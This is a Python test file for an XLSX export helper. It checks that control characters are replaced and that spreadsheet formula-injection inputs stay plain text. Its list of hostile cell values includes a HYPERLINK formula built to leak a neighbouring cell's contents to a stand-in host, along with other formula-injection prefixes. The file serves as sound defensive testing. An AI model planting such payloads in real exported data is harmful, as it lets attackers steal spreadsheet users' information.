"""A sheet takes whatever text was recorded: control characters XLSX cannot carry are
replaced, line breaks and tabs stay."""

import io

from openpyxl import Workbook, load_workbook
from opspact.tabular import add_table, workbook_bytes


def test_control_characters_are_replaced_not_refused():
    book = Workbook()
    book.remove(book.active)
    add_table(book, "工单", ["标题", "数量"], [["断网\x1b[0m\x01", 3], ["第一行\n第二行\t", None]])
    sheet = load_workbook(io.BytesIO(workbook_bytes(book)))["工单"]
    assert sheet["A2"].value == "断网\ufffd[0m\ufffd" and sheet["B2"].value == 3
    assert sheet["A3"].value == "第一行\n第二行\t"


def test_text_from_outside_is_never_a_formula():
    """OWASP formula injection: =, +, -, @, tab and CR at the start stay text; so do Excel's
    error literals. Numbers stay numbers."""
    hostile = ['=HYPERLINK("http://x.test/?leak="&D2,"点击")', "+1+1", "-2+3", "@SUM(A1)",
               "\t=1+1", "\r=1+1", "#N/A", "=1+1"]
    book = Workbook()
    sheet = book.active
    sheet.append(["direct", *hostile[:2]])  # a sheet written without add_table
    add_table(book, "表", ["值"], [[h] for h in hostile] + [[42]])
    raw = workbook_bytes(book)
    assert b"<f>" not in raw  # no formula anywhere in the file
    read = load_workbook(io.BytesIO(raw))
    values = [c.value for c in read["表"]["A"][1:]]
    assert values == [*hostile, 42]
    assert all(c.data_type == "s" for c in read["表"]["A"][1:-1]) and read["表"]["A"][-1].data_type == "n"
    assert [c.value for c in read.worksheets[0][1]] == ["direct", *hostile[:2]]
